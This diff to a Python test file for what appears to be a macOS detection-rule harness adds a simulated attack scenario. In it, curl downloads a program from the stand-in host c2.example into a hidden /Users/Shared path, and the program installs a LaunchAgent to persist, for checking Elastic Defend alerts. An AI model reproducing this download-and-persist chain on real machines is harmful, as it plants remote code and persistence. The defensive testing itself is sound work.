@@ -1,9 +1,9 @@
-"""Look-alikes that are true, and on which the rules and these labels do not agree."""
+"""What is true, and on which the rules or the decoders and these labels do not agree."""
 
 from benign_unlisted import MICROSOFT, java_in, package_tool
 from book import Book
 from mac import AD_HOC, DEBUGGABLE, HARDENED, HOME, LAUNCHD, LINKED, SHELL, Program, apple
-from people import APPLESCRIPT, LLDB, SH, STANDARD_ADDITIONS
+from people import APPLESCRIPT, CURL, LLDB, SH, STANDARD_ADDITIONS, dropped
 
 BOOK = Book()
 SCENARIOS = BOOK.scenarios
@@ -68,3 +68,25 @@ def harness_debugged(mac):
 
 
 BOOK.near_miss("S06", "another-debugs", "Harness takes the port of a child that lldb debugs", harness_debugged)
+
+
+def persists_by_elastic(mac):
+    """A fetched program below /Users/Shared writes a launch agent for itself. Elastic Defend names the item's file as Persistence.path and what it
+    starts as Persistence.executable; the process of the event is macOS's daemon, so that only the latter leads to the program."""
+    path = "/Users/Shared/.sld"
+    curl = mac.start(CURL, SHELL, ["curl", "-so", path, "https://c2.example/a"])
+    mac.begin()
+    mac.write(curl, path)
+    mac.wait()
+    p = mac.start(dropped(path, born=None))
+    item = HOME + "/Library/LaunchAgents/com.example.sld.plist"
+    mac.write(p, item)
+    btm = apple("/System/Library/PrivateFrameworks/BackgroundTaskManagement.framework/Resources/backgroundtaskmanagementd",
+                "com.apple.backgroundtaskmanagementd")
+    mac.launch_item(mac.start(btm, LAUNCHD, uid=0), item, path)
+    mac.end()
+    return path
+
+
+BOOK.attack("S15", "payload", "Fetched program makes itself start again, as Elastic Defend tells it", persists_by_elastic,
+            expect=["S15-persist", "S15"], sensor="elastic", variants=["plain"], name="persists-by-elastic", allow=["S24"])
